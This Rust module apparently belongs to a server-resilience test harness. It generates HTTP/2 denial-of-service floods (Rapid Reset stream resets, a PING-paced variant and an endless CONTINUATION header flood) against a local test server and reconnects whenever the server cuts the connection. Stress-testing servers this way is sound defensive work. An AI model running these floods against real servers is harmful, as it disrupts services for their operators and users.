//! Frames of HTTP/2 that cost the server more than the client, as many as the connection takes.

use std::io;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::{ReadHalf, WriteHalf};
use tokio::sync::Notify;
use tokio::time::{Instant, sleep, sleep_until, timeout_at};
use windlass_testkit::http2::{
    CONTINUATION, END_HEADERS, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame, header_block,
};

use crate::withstand::client::{UPLOAD, connect};

use super::{Attacker, Attempts, End};

/// Number of streams that are begun and reset in a group.
const GROUP: u32 = 16;

/// Number of CONTINUATION frames in a write.
const FRAMES: usize = 64;

/// The error CANCEL.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// The pause before a connection that was cut is made again.
const PAUSE: Duration = Duration::from_millis(10);

/// The frames that are sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    Resets,
    PacedResets,
    Continuations,
}

/// Sends frames until the end, and connects again whenever the server has closed the connection.
pub(super) async fn send(attacker: Attacker, kind: Kind) -> Attempts {
    let sent = AtomicU64::default();
    let mut ends = Vec::new();
    sleep_until(attacker.begins).await;
    while Instant::now() < attacker.end {
        let connected = timeout_at(attacker.end, connect(attacker.from, attacker.server)).await;
        let Ok(Ok(stream)) = connected else {
            ends.push(End::Unconnected);
            sleep(PAUSE).await;
            continue;
        };
        let start = Instant::now();
        ends.push(
            match timeout_at(attacker.end, flood(stream, kind, &sent)).await {
                Ok(()) => End::Cut(start.elapsed()),
                Err(_) => End::Open,
            },
        );
        sleep(PAUSE).await;
    }
    Attempts {
        ends,
        sent: sent.into_inner(),
    }
}

/// Returns when the server has closed the connection.
async fn flood(mut stream: TcpStream, kind: Kind, sent: &AtomicU64) {
    let heard = Notify::new();
    let (mut from, to) = stream.split();
    tokio::select! {
        // Reads until the server closes the connection.
        () = read(&mut from, &heard) => {}
        Err(_) = write(to, kind, &heard, sent) => {}
    }
}

async fn read(from: &mut ReadHalf<'_>, heard: &Notify) {
    let mut bytes = [0; 4096];
    while from.read(&mut bytes).await.is_ok_and(|len| len > 0) {
        heard.notify_one();
    }
}

async fn write(
    mut to: WriteHalf<'_>,
    kind: Kind,
    heard: &Notify,
    sent: &AtomicU64,
) -> io::Result<()> {
    let mut frames = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    if kind == Kind::Continuations {
        frames.extend(frame(HEADERS, 0, 1, &head()));
    }
    let mut stream = 1;
    loop {
        match kind {
            Kind::Resets => stream = push_resets(&mut frames, stream),
            Kind::PacedResets => {
                stream = push_resets(&mut frames, stream);
                frames.extend(frame(PING, 0, 0, &[0; 8]));
            }
            Kind::Continuations => push_continuations(&mut frames),
        }
        to.write_all(&frames).await?;
        sent.fetch_add(frames.len() as u64, Ordering::Relaxed);
        frames.clear();
        if kind == Kind::PacedResets {
            heard.notified().await;
        }
    }
}

/// Appends the beginnings and ends of some streams. Returns the next one.
fn push_resets(frames: &mut Vec<u8>, first: u32) -> u32 {
    let head = head();
    let mut stream = first;
    for _ in 0..GROUP {
        frames.extend(frame(HEADERS, END_HEADERS, stream, &head));
        frames.extend(frame(RST_STREAM, 0, stream, &CANCEL));
        stream += 2;
    }
    stream
}

fn push_continuations(frames: &mut Vec<u8>) {
    let field = header_block(&[("x-more", "of this head, which has no end")]);
    for _ in 0..FRAMES {
        frames.extend(frame(CONTINUATION, 0, 1, &field));
    }
}

/// The head of an upload. Its body is not sent.
fn head() -> Vec<u8> {
    header_block(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":path", UPLOAD),
        (":authority", "farm.localhost"),
        ("content-type", "application/octet-stream"),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_stream_of_a_group_is_begun_and_reset() {
        let mut frames = Vec::new();
        assert_eq!(push_resets(&mut frames, 1), 1 + 2 * GROUP);
        let pair = 9 + head().len() + 9 + CANCEL.len();
        assert_eq!(frames.len(), pair * GROUP as usize);
    }
}
